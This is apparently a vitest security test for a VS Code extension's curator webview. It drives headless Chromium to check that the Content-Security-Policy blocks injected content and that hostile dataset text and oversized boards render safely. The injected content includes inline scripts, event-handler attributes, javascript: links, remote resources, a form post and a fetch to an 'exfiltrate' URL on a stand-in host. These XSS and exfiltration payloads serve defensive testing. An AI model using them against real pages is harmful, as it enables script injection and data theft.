/**
 * Webview security against hostile input, in a real headless Chromium (Debian's /usr/bin/chromium driven
 * by playwright-core; test/webview/chromiumPage.ts), from the built bundles in dist/ (`npx webpack`):
 *
 * 1. The extension's own HTML shell (src/extension/webviewHtml.ts) and its Content-Security-Policy: a
 *    fresh nonce per load; the nonced bundle runs; inline scripts, event-handler attributes, remote
 *    scripts, styles, images, frames and fonts, eval, `<base>` and form posts are refused (with a
 *    `securitypolicyviolation` event) and no request leaves for another origin (network events).
 * 2. Hostile trace text (markup, script, `javascript:` links, layout-breaking CSS, bidi overrides,
 *    zero-width characters, a 5 MB response, 10,000 nested braces, hostile image paths) through the real
 *    curator host (CuratorSession over the in-process dataset engine reading a generated JSONL file) into
 *    the real curator webview: shown as text, nothing runs, the layout holds, the keyboard still works,
 *    no remote request, bounded time.
 * 3. A 1000 x 1000 board for every task that has one, through the same host: bounded time, no crash,
 *    and a board model that does not fit the renderer's limits is refused with a message, not drawn.
 *
 * Skipped, with a message, only when /usr/bin/chromium is not installed.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildBoardFromRules } from '../../src/core/boards';
import { Board, type GridBoard } from '../../src/core/boards/model';
import { normalizeRow } from '../../src/core/normalize';
import type { Sample } from '../../src/core/sample';
import { extractAnswer } from '../../src/core/verify/extract';
import { webviewHtml } from '../../src/extension/webviewHtml';
import { MAX_DRAWN_CELLS, MAX_LISTED_VIOLATIONS } from '../../webview/curator/board/BoardView';
import { builtDist, bundleEntry, expectCleanRun, openPage, ORIGIN, skipWithoutChromium, webviewShell, type ChromiumPage, type PageWindow } from '../webview/chromiumPage';
import { bridgeCurator, watchNetwork, type CuratorBridge, type NetworkLog } from './webviewPage';
import { BIG, BIG_BOARD_TASKS, bigBoardRow, PAYLOADS, TRICKY, writeHostileTextDataset, type HostileTextDataset } from './webviewPayloads';

const skip = skipWithoutChromium('test/hostile/webview.security.test.ts');

interface HostileWindow extends PageWindow {
  __pwned?: string;
}

/** What each injected piece of markup tries; all of it must be refused by the CSP. */
const INJECTED = [
  `<script>window.__pwned = 'inline script'</script>`,
  `<script nonce="not-the-nonce">window.__pwned = 'wrong nonce'</script>`,
  `<script src="https://example.invalid/x.js"></script>`,
  `<img id="handler-img" src="${ORIGIN}/dist/missing.png" onerror="window.__pwned = 'onerror'">`,
  `<svg onload="window.__pwned = 'svg onload'"><circle r="2"></circle></svg>`,
  `<a id="js-link" href="javascript:window.__pwned = 'javascript: link'">link</a>`,
  `<img id="remote-img" src="https://example.invalid/track.png">`,
  `<link rel="stylesheet" href="https://example.invalid/x.css">`,
  `<style>#root { display: none !important }</style>`,
  `<div id="styled" style="position: fixed; inset: 0; z-index: 99999; background: red"></div>`,
  `<iframe src="https://example.invalid/frame.html"></iframe>`,
  `<object data="https://example.invalid/x.swf"></object>`,
  `<form id="post" action="https://example.invalid/collect" method="post"><input name="q" value="secret"></form>`,
];

/** The shell around `bundle`, with `extra` markup injected into the body before the bundle's script; the nonce of each load is kept. */
function injectedShell(bundle: string, extra: string[], nonces: string[]): () => string {
  return () => {
    const html = webviewHtml({ cspSource: ORIGIN, scriptUri: `${ORIGIN}/dist/${bundle}.js`, styleUri: `${ORIGIN}/dist/${bundle}.css`, title: 'Hostile', inlineImages: true });
    const nonce = /<script nonce="([^"]+)"/.exec(html)?.[1];
    if (!nonce) throw new Error('the shell has no nonced script');
    nonces.push(nonce);
    return html.replace('<div id="root"></div>', `<div id="root"></div>\n${extra.join('\n')}`);
  };
}

describe.skipIf(skip)('the webview HTML shell and its CSP in Chromium', () => {
  let p: ChromiumPage;
  let net: NetworkLog;
  const nonces: string[] = [];

  beforeAll(async () => {
    p = await openPage({ viewport: { width: 1000, height: 700 }, html: injectedShell('curator', INJECTED, nonces), files: builtDist('curator.js', 'curator.css', 'codicon.ttf'), vsCodeApi: true });
    net = watchNetwork(p.page);
    await p.goto();
    await p.page.waitForFunction(() => (window as unknown as { __posted: Array<{ type: string }> }).__posted.some((m) => m.type === 'ready'));
  }, 60_000);

  afterAll(async () => {
    await p?.close();
  });

  it('carries the CSP meta with a fresh nonce per load; the nonced bundle runs', async () => {
    const first = await p.page.evaluate(() => ({
      csp: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? null,
      scriptNonce: document.querySelector<HTMLScriptElement>('script[src$="/dist/curator.js"]')?.nonce ?? null,
      posted: (window as unknown as { __posted: Array<{ type: string }> }).__posted.map((m) => m.type),
      curator: document.querySelector('[data-testid="curator"]') !== null,
    }));
    expect(first.csp).not.toBeNull();
    const directives = new Map(first.csp!.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k!, v]));
    expect(directives.get('default-src')).toEqual(["'none'"]);
    expect(directives.get('script-src')).toEqual([`'nonce-${nonces[0]}'`]);
    expect(directives.get('style-src')).toEqual([ORIGIN]);
    expect(directives.get('font-src')).toEqual([ORIGIN]);
    expect(directives.get('img-src')).toEqual([ORIGIN, 'data:', 'blob:']);
    expect(directives.get('base-uri')).toEqual(["'none'"]);
    expect(directives.get('form-action')).toEqual(["'none'"]);
    expect(first.csp).not.toMatch(/unsafe-|\*|https?:\/\/(?!webview\.helix\.test)/);
    expect(first.scriptNonce).toBe(nonces[0]);
    expect(first.posted[0]).toBe('ready');
    expect(first.curator).toBe(true);

    await p.goto();
    await p.page.waitForFunction(() => (window as unknown as { __posted: Array<{ type: string }> }).__posted.some((m) => m.type === 'ready'));
    expect(nonces).toHaveLength(2);
    expect(nonces[1]).not.toBe(nonces[0]);
    expect(nonces[1]).toMatch(/^[A-Za-z0-9]{16,}$/);
    const csp2 = await p.page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
    expect(csp2).toContain(`'nonce-${nonces[1]}'`);
    expect(csp2).not.toContain(nonces[0]);
  });

  it('refuses every injected inline script, handler attribute and remote resource, each with a securitypolicyviolation', async () => {
    // Let the img error fire and the frame/object settle.
    await p.page.waitForFunction(() => (document.getElementById('handler-img') as HTMLImageElement | null)?.complete === true);
    await p.page.evaluate(() => document.getElementById('js-link')?.click());
    await p.page.evaluate(() => (document.getElementById('post') as HTMLFormElement).requestSubmit());
    await p.page.waitForTimeout(200);
    const state = await p.page.evaluate(() => ({
      pwned: (window as unknown as HostileWindow).__pwned ?? null,
      rootDisplay: getComputedStyle(document.getElementById('root')!).display,
      styledPosition: getComputedStyle(document.getElementById('styled')!).position,
      remoteImgWidth: (document.getElementById('remote-img') as HTMLImageElement).naturalWidth,
      url: location.href,
    }));
    expect(state.pwned).toBeNull();
    expect(state.rootDisplay).not.toBe('none');
    expect(state.styledPosition).toBe('static');
    expect(state.remoteImgWidth).toBe(0);
    expect(state.url).toBe(`${ORIGIN}/index.html`);
    const violations = await p.violations();
    const of = (directive: string, what: RegExp) => violations.filter((v) => v.startsWith(directive) && what.test(v));
    // No nonce, wrong nonce, and the javascript: link (Chromium reports its navigation as an inline script element).
    expect(of('script-src-elem', /inline/).length, violations.join('\n')).toBe(3);
    expect(of('script-src-elem', /example\.invalid\/x\.js/)).toHaveLength(1);
    expect(of('script-src-attr', /inline/)).toHaveLength(2); // onerror, onload
    expect(of('img-src', /example\.invalid\/track\.png/)).toHaveLength(1);
    expect(of('style-src-elem', /example\.invalid\/x\.css/)).toHaveLength(1);
    expect(of('style-src-elem', /inline/)).toHaveLength(1);
    expect(of('style-src-attr', /inline/)).toHaveLength(1);
    expect(of('frame-src', /example\.invalid/)).toHaveLength(1);
    expect(of('object-src', /example\.invalid/)).toHaveLength(1);
    expect(of('form-action', /example\.invalid/)).toHaveLength(1);
  });

  it('blocks eval, new Function, string timers, script elements made at run time, fetch and <base>', async () => {
    const before = (await p.violations()).length;
    const r = await p.page.evaluate(async () => {
      const w = window as unknown as HostileWindow;
      const attempt = (f: () => unknown): string => {
        try {
          f();
          return 'ran';
        } catch (e) {
          return (e as Error).name;
        }
      };
      // Not here, in the evaluated function: DevTools lets code it evaluates call eval whatever the CSP
      // says (Runtime.evaluate's allowUnsafeEvalBlockedByCSP). From a timer, the page's own code runs it.
      // The point is to call eval and Function and see the CSP refuse them.
      const [evalResult, fnResult] = await new Promise<[string, string]>((resolve) =>
        // eslint-disable-next-line no-eval, no-new-func, @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call
        setTimeout(() => resolve([attempt(() => (0, eval)("window.__pwned = 'eval'")), attempt(() => new Function("window.__pwned = 'Function'")())]), 0),
      );
      // A string timer is refused without an exception: give it a tick.
      (setTimeout as unknown as (code: string, ms: number) => number)("window.__pwned = 'timer'", 0);
      const s = document.createElement('script');
      s.textContent = "window.__pwned = 'dynamic script'";
      document.body.appendChild(s);
      const remote = document.createElement('script');
      remote.src = 'https://example.invalid/dynamic.js';
      document.body.appendChild(remote);
      let fetchResult = 'ran';
      try {
        await fetch('https://example.invalid/exfiltrate?d=1');
      } catch (e) {
        fetchResult = (e as Error).name;
      }
      const base = document.createElement('base');
      base.href = 'https://example.invalid/';
      document.head.appendChild(base);
      const baseURI = document.baseURI;
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { evalResult, fnResult, fetchResult, baseURI, pwned: w.__pwned ?? null };
    });
    expect(r).toEqual({ evalResult: 'EvalError', fnResult: 'EvalError', fetchResult: 'TypeError', baseURI: `${ORIGIN}/index.html`, pwned: null });
    const violations = (await p.violations()).slice(before);
    expect(violations.filter((v) => v.startsWith('script-src') && / eval /.test(` ${v} `)).length, violations.join('\n')).toBeGreaterThanOrEqual(3);
    expect(violations.some((v) => v.startsWith('connect-src') && v.includes('example.invalid/exfiltrate'))).toBe(true);
    expect(violations.some((v) => v.startsWith('script-src-elem') && v.includes('example.invalid/dynamic.js'))).toBe(true);
    expect(violations.some((v) => v.startsWith('base-uri'))).toBe(true);
  });

  it('no request left for another origin: everything came from the webview origin, and every style sheet is the bundle', async () => {
    expect(net.urls.length).toBeGreaterThan(0);
    // Asked for, then refused by the CSP inside the browser: never sent.
    const remote = net.urls.filter((u) => u.includes('example.invalid'));
    expect(remote.length).toBeGreaterThanOrEqual(4);
    expect([...new Set(net.cspBlocked)].sort()).toEqual([...new Set(remote)].sort());
    expect(net.foreign()).toEqual([]);
    // And nothing reached the network layer for another origin (the page's router would have listed and aborted it).
    expect(p.blocked).toEqual([]);
    // The refused <link> keeps an empty sheet object; its request was refused above, so no rule of it applies.
    const sheets = await p.page.evaluate(() => [...document.styleSheets].map((s) => s.href));
    expect(sheets.filter((h) => h !== 'https://example.invalid/x.css')).toEqual([`${ORIGIN}/dist/curator.css`]);
    expect(net.cspBlocked).toContain('https://example.invalid/x.css');
    expect(p.dialogs).toEqual([]);
    expect(p.pageErrors).toEqual([]);
  });
});

describe.skipIf(skip)('each bundle under the shell, without injections, runs clean', () => {
  for (const bundle of ['curator', 'webview'] as const) {
    it(`${bundle}: nothing refused, nothing remote`, async () => {
      const nonces: string[] = [];
      const p = await openPage({ viewport: { width: 900, height: 600 }, html: injectedShell(bundle, [], nonces), files: builtDist(`${bundle}.js`, `${bundle}.css`, 'codicon.ttf'), vsCodeApi: true });
      try {
        const net = watchNetwork(p.page);
        await p.goto();
        await p.page.waitForFunction(() => (window as unknown as { __posted: Array<{ type: string }> }).__posted.some((m) => m.type === 'ready'));
        await expectCleanRun(p);
        expect(net.foreign()).toEqual([]);
      } finally {
        await p.close();
      }
    }, 60_000);
  }
});


// ---------------------------------------------------------------------------------------------------
// 2. Hostile trace text through the real curator host

/** Everything in the document that markup in the data could have made, or that a payload could have changed. */
function domDamage(): { elements: string[]; handlers: string[]; jsLinks: number; pwned: string | null; styles: number; title: string } {
  const root = document.getElementById('root')!;
  // Elements the app never makes, and any element carrying a payload's marks in an attribute that loads or
  // styles something (the text of a title or data-sample-id attribute is harmless).
  const elements = [...root.querySelectorAll('script, iframe, object, embed, base, meta, link, style, form, a[href]')].map((e) => e.outerHTML.slice(0, 80));
  const handlers: string[] = [];
  for (const e of root.querySelectorAll('*')) {
    for (const a of e.getAttributeNames()) {
      if (a.startsWith('on')) handlers.push(`${e.tagName} ${a}`);
      else if (/^(src|srcset|href|xlink:href|style|action|formaction|data|srcdoc|poster|background)$/.test(a) && /__pwned|example\.invalid|javascript:|2147483647/i.test(e.getAttribute(a) ?? '')) {
        elements.push(e.outerHTML.slice(0, 80));
      }
    }
    if (e.tagName === 'IMG' && e.getAttribute('src') === 'x') elements.push(e.outerHTML.slice(0, 80));
  }
  return {
    elements,
    handlers,
    jsLinks: document.querySelectorAll('a[href^="javascript:" i]').length,
    pwned: (window as unknown as HostileWindow).__pwned ?? null,
    styles: document.querySelectorAll('style').length,
    title: document.title,
  };
}

/** The box of the element with `testId`, and whether the element at its centre belongs to it (nothing laid over it). */
function boxOf(testId: string): { width: number; height: number; onTop: boolean } | null {
  const e = document.querySelector(`[data-testid="${testId}"]`);
  if (!e) return null;
  e.scrollIntoView({ block: 'start' });
  const r = e.getBoundingClientRect();
  const x = Math.min(r.left + r.width / 2, innerWidth - 1);
  const y = Math.min(r.top + Math.min(r.height / 2, 40), innerHeight - 1);
  const top = document.elementFromPoint(x, y);
  return { width: r.width, height: r.height, onTop: top !== null && e.contains(top) };
}

describe.skipIf(skip)('hostile trace text in the curator (real host, real webview)', () => {
  let p: ChromiumPage;
  let net: NetworkLog;
  let bridge: CuratorBridge;
  let data: HostileTextDataset;
  let dir: string;
  const timings: string[] = [];

  const row = (ordinal: number) => p.page.locator(`[data-testid="sample-row"][data-ordinal="${ordinal}"]`);
  const selectedOrdinal = () => p.page.locator('[data-testid="sample-row"][aria-selected="true"]').getAttribute('data-ordinal');
  /** Select `ordinal` and wait until the host's sample for it is on screen; the time from the click to the rendered detail. */
  /**
   * Select `ordinal` and wait until its sample is on screen. Returns the whole time from the click and the
   * page's own share: from the sample message reaching the page to the rendered detail (the rest is the
   * host's work and this test's delivery of the message, a page.evaluate that is slow for megabytes).
   */
  async function show(ordinal: number): Promise<{ total: number; page: number }> {
    const t0 = performance.now();
    const from = bridge.sent.length;
    await row(ordinal).click();
    await p.page.locator(`[data-testid="sample-detail"][data-ordinal="${ordinal}"]`).waitFor({ timeout: 90_000 });
    await p.page.waitForFunction(() => !document.querySelector('.detail-scroll.loading'), undefined, { timeout: 90_000 });
    const pageMs = await bridge.sinceSampleArrived(ordinal);
    const total = performance.now() - t0;
    const i = bridge.sent.findIndex((m, k) => k >= from && m.type === 'sample' && m.ordinal === ordinal);
    const hostMs = i >= 0 ? (bridge.sentAt[i]! - t0).toFixed(0) : '?';
    timings.push(`row ${ordinal}: on screen ${total.toFixed(0)} ms after the click (host posted at ${hostMs} ms; the page rendered it in ${pageMs.toFixed(0)} ms)`);
    return { total, page: pageMs };
  }

  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'helix-hostile-webview-'));
    data = writeHostileTextDataset(dir);
    p = await openPage({ viewport: { width: 1280, height: 800 }, html: webviewShell('curator', 'Curator'), files: builtDist('curator.js', 'curator.css', 'codicon.ttf') });
    net = watchNetwork(p.page);
    bridge = await bridgeCurator(p.page, data.file, path.join(dir, 'hostile.helix-journal.jsonl'));
    const t0 = performance.now();
    await p.goto();
    await bridge.until('the index', () => bridge.sent.some((m) => m.type === 'indexStatus' && m.done));
    await row(4).waitFor();
    timings.push(`hostile dataset (5 rows, ${(fs.statSync(data.file).size / 1e6).toFixed(1)} MB) indexed and listed in ${(performance.now() - t0).toFixed(0)} ms`);
  }, 120_000);

  afterAll(async () => {
    await bridge?.dispose();
    await p?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
    console.log(`hostile webview timings:\n  ${timings.join('\n  ')}`);
  });

  it('lists the hostile ids as text', async () => {
    const ids = await p.page.getByTestId('sample-row').evaluateAll((els) => els.map((e) => e.getAttribute('data-sample-id')));
    expect(ids).toEqual([data.ids.good, data.ids.markup, data.ids.big, data.ids.braces, data.ids.images]);
    expect(await row(1).locator('.col-id').textContent()).toBe(data.ids.markup);
    expect(await row(2).locator('.col-id').textContent()).toBe(data.ids.big);
    expect(await p.page.evaluate(domDamage)).toEqual({ elements: [], handlers: [], jsLinks: 0, pwned: null, styles: 0, title: 'Curator' });
  });

  it('the markup row: every payload shows as the same characters in the question, the trace and the answers; nothing runs', async () => {
    await show(1);
    const detail = p.page.getByTestId('sample-detail');
    // The details and the puzzle data are closed: open them so their text is in the layout too.
    await p.page.evaluate(() => document.querySelectorAll('details').forEach((d) => (d.open = true)));
    const text = (await detail.textContent()) ?? '';
    for (const [name, payload] of Object.entries(PAYLOADS)) expect(text, `payload ${name}`).toContain(payload);
    expect(text).toContain(TRICKY.rtl);
    expect(text).toContain(TRICKY.zeroWidth);
    // The trace pane holds the response's steps verbatim.
    const trace = (await p.page.getByTestId('trace-pane').textContent()) ?? '';
    expect(trace).toContain(PAYLOADS.svg);
    expect(trace).toContain(TRICKY.zeroWidth);
    // The extracted answer is the markup itself, marked in the trace as text.
    expect(await p.page.getByTestId('extracted-span').first().textContent()).toContain(PAYLOADS.img);
    expect(await p.page.evaluate(domDamage)).toEqual({ elements: [], handlers: [], jsLinks: 0, pwned: null, styles: 0, title: 'Curator' });
    expect(p.dialogs).toEqual([]);
  });

  it('a hostile note typed by the curator is journaled and shown back as text', async () => {
    await p.page.getByTestId('sample-list').focus();
    await p.page.keyboard.press('n');
    const editor = p.page.getByTestId('note-editor');
    await editor.fill(`${PAYLOADS.script} ${PAYLOADS.img} ${TRICKY.rtl}`);
    await editor.press('Enter');
    const note = `${PAYLOADS.script} ${PAYLOADS.img} ${TRICKY.rtl}`;
    await bridge.until('the note in a decisions snapshot', () => bridge.sent.some((m) => m.type === 'decisions' && m.entries.some((e) => e.ordinal === 1 && e.note === note)));
    const journal = fs.readFileSync(path.join(dir, 'hostile.helix-journal.jsonl'), 'utf8');
    expect(journal).toContain(JSON.stringify(note).slice(1, -1));
    await expect.poll(() => p.page.getByTestId('curator').textContent()).toContain(note);
    expect(await p.page.evaluate(domDamage)).toEqual({ elements: [], handlers: [], jsLinks: 0, pwned: null, styles: 0, title: 'Curator' });
  });

  it('the layout holds: list and trace pane visible, nothing laid over them, the keyboard still moves the selection', async () => {
    await row(1).click();
    for (const id of ['sample-list', 'trace-pane', 'sample-detail']) {
      const box = await p.page.evaluate(boxOf, id);
      expect(box, id).not.toBeNull();
      expect(box!.width, id).toBeGreaterThan(100);
      expect(box!.height, id).toBeGreaterThan(50);
      expect(box!.onTop, `${id} is not covered`).toBe(true);
    }
    await p.page.keyboard.press('j');
    expect(await selectedOrdinal()).toBe('2');
    await p.page.keyboard.press('k');
    expect(await selectedOrdinal()).toBe('1');
  });

  it('a 5 MB response: shown in bounded time, the page stays responsive', async () => {
    const ms = await show(2);
    timings.push(`  (row 2: the 5 MB response, ${data.bigResponseChars.toLocaleString('en-US')} chars)`);
    // The page's own share is what this suite vouches for; the whole includes the host's analysis of
    // 5 MB (and the test's delivery of an 8 MB message), on a loaded 2-core machine.
    expect(ms.page).toBeLessThan(5_000);
    expect(ms.total).toBeLessThan(90_000);
    // Runs of steps without reflection are collapsed; the reflective ones show, markup as text.
    const trace = (await p.page.getByTestId('trace-pane').textContent()) ?? '';
    expect(trace.includes(`Wait, that is wrong ${PAYLOADS.script}. Let me go back.`), 'a reflective step shows its markup as text').toBe(true);
    const nodes = await p.page.evaluate(() => document.querySelectorAll('*').length);
    timings.push(`  DOM after the 5 MB response: ${nodes.toLocaleString('en-US')} elements`);
    expect(await p.page.evaluate(domDamage)).toEqual({ elements: [], handlers: [], jsLinks: 0, pwned: null, styles: 0, title: 'Curator' });
    const box = await p.page.evaluate(boxOf, 'trace-pane');
    expect(box!.height).toBeGreaterThan(50);
    expect(box!.onTop).toBe(true);
    const t0 = performance.now();
    await p.page.keyboard.press('j');
    await expect.poll(selectedOrdinal).toBe('3');
    timings.push(`  a key press on the 5 MB sample moved the selection in ${(performance.now() - t0).toFixed(0)} ms`);
  }, 120_000);

  it('10,000 nested braces in the question, the ground truth and the boxed answer: shown, no stack overflow', async () => {
    const ms = await show(3);
    timings.push('  (row 3: 10,000 nested braces)');
    expect(ms.page).toBeLessThan(5_000);
    expect(ms.total).toBeLessThan(30_000);
    const text = (await p.page.getByTestId('sample-detail').textContent()) ?? '';
    expect(text).toContain('{'.repeat(10_000));
    expect(p.pageErrors).toEqual([]);
  }, 60_000);

  it('hostile image paths are refused with a message, never fetched; the real image loads from the dataset folder', async () => {
    await show(4);
    const errors = await p.page.getByTestId('image-error').allTextContents();
    expect(errors.length, errors.join('\n')).toBeGreaterThanOrEqual(4);
    await show(0);
    await p.page.waitForFunction(() => [...document.querySelectorAll<HTMLImageElement>('[data-testid="image-pane"] img')].some((i) => i.complete && i.naturalWidth > 0));
    const srcs = await p.page.locator('[data-testid="image-pane"] img').evaluateAll((els) => els.map((e) => (e as HTMLImageElement).src));
    expect(srcs.every((s) => s.startsWith(`${ORIGIN}/dataset/`))).toBe(true);
  });

  it('ran clean: no request left for another origin, no dialog, no error, no CSP violation', async () => {
    expect(net.foreign()).toEqual([]);
    expect(p.blocked).toEqual([]);
    expect(net.urls.some((u) => u.includes('example.invalid'))).toBe(false);
    expect(net.urls.some((u) => u.startsWith(`${ORIGIN}/dataset/`))).toBe(true);
    expect(p.dialogs).toEqual([]);
    expect(p.pageErrors).toEqual([]);
    expect(p.consoleErrors).toEqual([]);
    expect(await p.violations()).toEqual([]);
    expect(await p.page.evaluate(() => (window as unknown as HostileWindow).__pwned ?? null)).toBeNull();
  });
});

// ---------------------------------------------------------------------------------------------------
// 3. Boards of 1000 x 1000

/** The slow variants: every task through the real curator host (verification of 1M-cell puzzles included). */
const FULL = process.env['HELIX_HOSTILE_FULL'] === '1';

function sampleOfRow(row: Record<string, unknown>): Sample {
  return normalizeRow(row, { file: '/data/boards.jsonl', format: 'jsonl', datasetDir: '/data', ordinal: 0, line: 1 });
}

/** The board core draws for `row`'s candidate answer (the rules alone: no verification). */
function coreBoard(row: Record<string, unknown>): Board | null {
  const sample = sampleOfRow(row);
  return buildBoardFromRules(sample, sample.response === null ? null : extractAnswer(sample.response).answer);
}

describe.skipIf(skip)('boards of 1000 x 1000: every board task, core and renderer', () => {
  let p: ChromiumPage;
  const timings: string[] = [];

  /**
   * Render `boards` in the board page; the page's own time from the parsed boards to a painted frame.
   * Sent over the DevTools protocol directly: about twice as fast as page.evaluate's argument passing for megabytes.
   */
  async function render(boards: unknown[]): Promise<number> {
    const cdp = await p.page.context().newCDPSession(p.page);
    try {
      const expression = `(async () => {
        const boards = JSON.parse(${JSON.stringify(JSON.stringify(boards))});
        const t = performance.now();
        window.__render(boards);
        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
        return performance.now() - t;
      })()`;
      const r = (await cdp.send('Runtime.evaluate', { expression, awaitPromise: true, returnByValue: true })) as { result: { value?: number }; exceptionDetails?: { text: string } };
      if (r.exceptionDetails || typeof r.result.value !== 'number') throw new Error(`rendering failed: ${r.exceptionDetails?.text ?? 'no time'}`);
      return r.result.value;
    } finally {
      await cdp.detach();
    }
  }

  beforeAll(async () => {
    const files = await bundleEntry('board', path.resolve(__dirname, '../webview/boardEntry.tsx'));
    p = await openPage({ viewport: { width: 900, height: 900 }, html: webviewShell('board', 'Board'), files });
    await p.goto();
    await p.page.waitForFunction(() => typeof (window as unknown as { __render?: unknown }).__render === 'function');
  }, 120_000);

  afterAll(async () => {
    await p?.close();
    console.log(`hostile board timings:\n  ${timings.join('\n  ')}`);
  });

  it('core: a 1000 x 1000 puzzle of every board task (Hanoi: 1000 discs) is refused or kept within the model, in bounded time', () => {
    const out: string[] = [];
    for (const task of BIG_BOARD_TASKS) {
      const row = bigBoardRow(task, BIG);
      const t0 = performance.now();
      const board = coreBoard(row);
      const ms = performance.now() - t0;
      expect(ms, `${task}: building the board`).toBeLessThan(10_000);
      if (board !== null) {
        // Drawn only if it fits the model the webview accepts (rows and columns at most 200).
        expect(Board.safeParse(board).success, task).toBe(true);
      }
      out.push(`${task} ${ms.toFixed(0)} ms ${board === null ? 'refused' : board.kind === 'grid' ? `${board.rows}×${board.cols}` : board.kind}`);
    }
    timings.push(`core, 1000×1000 per task: ${out.join(', ')}`);
    expect(out).toHaveLength(BIG_BOARD_TASKS.length);
  }, 120_000);

  it("the renderer: the model's largest board (200 x 200) of every grid task is refused with a message instead of freezing the page", async () => {
    const out: string[] = [];
    let drawnTasks = 0;
    // The heaviest to draw (futoshiki, binairo, Calcudoku took 16-40 s before the limit), a path, a move
    // sequence and pegs; every task with HELIX_HOSTILE_FULL=1.
    const tasks = FULL ? BIG_BOARD_TASKS : ['futoshiki', 'binairo', 'Calcudoku', 'maze', 'sokoban', 'hanoi'];
    for (const task of tasks) {
      const board = coreBoard(bigBoardRow(task, 200));
      if (board === null) {
        out.push(`${task} no board`);
        continue;
      }
      drawnTasks++;
      const ms = await render([board]);
      const frame = board.kind === 'sequence' ? board.frames[board.focusFrame]!.board : board;
      const cells = frame.kind === 'grid' ? frame.rows * frame.cols : frame.pegs.flat().length;
      const note = p.page.getByTestId('board-too-large');
      if (cells > MAX_DRAWN_CELLS) {
        await note.waitFor();
        expect(await note.textContent()).toContain(`Board too large to draw (${frame.kind === 'grid' ? `${frame.rows} × ${frame.cols}, ${cells.toLocaleString('en-US')} cells` : ''}`);
        expect(await p.page.locator('svg.grid-svg, svg.pegs-svg').count()).toBe(0);
        // The problems are still listed, as text, at most MAX_LISTED_VIOLATIONS of them.
        const listed = await p.page.getByTestId('violation').count();
        expect(listed).toBe(Math.min(board.violations.length, MAX_LISTED_VIOLATIONS));
        expect(ms, `${task}: refusing`).toBeLessThan(5_000);
      } else {
        expect(await note.count()).toBe(0);
        expect(ms, `${task}: drawing ${cells} cells`).toBeLessThan(10_000);
      }
      out.push(`${task} ${ms.toFixed(0)} ms`);
    }
    expect(drawnTasks).toBeGreaterThanOrEqual(FULL ? 15 : tasks.length);
    timings.push(`renderer, 200×200 from core per task: ${out.join(', ')}`);
  }, 180_000);

  it('a board just under the limit (100 x 100) is still drawn, in bounded time', async () => {
    for (const task of FULL ? ['maze', 'futoshiki'] : ['maze']) {
      const board = coreBoard(bigBoardRow(task, 100)) as GridBoard;
      expect(board.rows * board.cols).toBe(MAX_DRAWN_CELLS);
      const ms = await render([board]);
      expect(await p.page.locator('svg.grid-svg').count()).toBe(1);
      expect(await p.page.locator('svg.grid-svg g.cell').count()).toBe(MAX_DRAWN_CELLS);
      expect(await p.page.getByTestId('board-too-large').count()).toBe(0);
      expect(ms, `${task} 100×100`).toBeLessThan(15_000);
      timings.push(`renderer, ${task} 100×100 drawn in ${ms.toFixed(0)} ms`);
    }
  }, 120_000);

  it('boards beyond the model handed straight to the renderer (1000 x 1000 grid, 100,000 discs, 1000 x 1000 frames, 5,000 violations): refused at once, no crash', async () => {
    // Made in the page (sending 60 MB of JSON over the DevTools protocol would be most of the time).
    const ms = await p.page.evaluate(
      async ({ n, max, title, message }) => {
        const cells = Array.from({ length: n }, () => Array.from({ length: n }, () => ({ text: '7', bad: true })));
        const violations = Array.from({ length: 5000 }, (_, i) => ({ message: `${message} problem ${i}`, cells: [[i % n, 0]] }));
        const grid = { kind: 'grid', title, rows: n, cols: n, cells, violations };
        const pegs = { kind: 'pegs', title: 'Hanoi, 100,000 discs', pegs: [Array.from({ length: max }, (_, i) => max - i), [], []], labels: ['1', '2', '3'], violations: [] };
        const sequence = { kind: 'sequence', title: 'Sokoban 1000×1000', moves: ['right', 'left'], frames: [{ label: 'start', board: grid }, { label: 'move 1: right', board: grid, bad: true, move: 0 }], badMove: 0, focusFrame: 1, violations: violations.slice(0, 3) };
        const t = performance.now();
        (window as unknown as { __render: (b: unknown[]) => void }).__render([grid, pegs, sequence]);
        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
        return performance.now() - t;
      },
      { n: BIG, max: 100_000, title: `${PAYLOADS.script} 1000×1000`, message: PAYLOADS.img },
    );
    expect(await p.page.getByTestId('board-too-large').count()).toBe(3);
    const notes = await p.page.getByTestId('board-too-large').allTextContents();
    expect(notes[0]).toContain('Board too large to draw (1000 × 1000, 1,000,000 cells; the limit is 10,000): showing its problems only.');
    expect(notes[1]).toContain('3 pegs, 100,000 discs');
    expect(await p.page.getByTestId('more-violations').first().textContent()).toContain(`and ${(5000 - MAX_LISTED_VIOLATIONS).toLocaleString('en-US')} more problems`);
    expect(await p.page.locator('main').textContent()).toContain(`${PAYLOADS.script} 1000×1000`);
    expect(await p.page.locator('main img, main script').count()).toBe(0);
    expect(ms).toBeLessThan(10_000);
    timings.push(`renderer, boards beyond the model (1M-cell grid, 100,000 discs, a sequence of 1M-cell frames) refused in ${ms.toFixed(0)} ms`);
  }, 120_000);

  it('ran clean: no page error, no CSP violation, no remote request', async () => {
    expect(p.pageErrors).toEqual([]);
    expect(p.dialogs).toEqual([]);
    expect(await p.violations()).toEqual([]);
    expect(p.blocked).toEqual([]);
  });
});

describe.skipIf(skip || !FULL)('boards of 1000 x 1000 through the real curator host (HELIX_HOSTILE_FULL=1)', () => {
  let p: ChromiumPage;
  let net: NetworkLog;
  let bridge: CuratorBridge;
  let dir: string;
  const timings: string[] = [];

  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'helix-hostile-boards-'));
    const file = path.join(dir, 'boards.jsonl');
    const fd = fs.openSync(file, 'w');
    for (const task of BIG_BOARD_TASKS) fs.writeSync(fd, `${JSON.stringify(bigBoardRow(task, BIG))}\n`);
    fs.closeSync(fd);
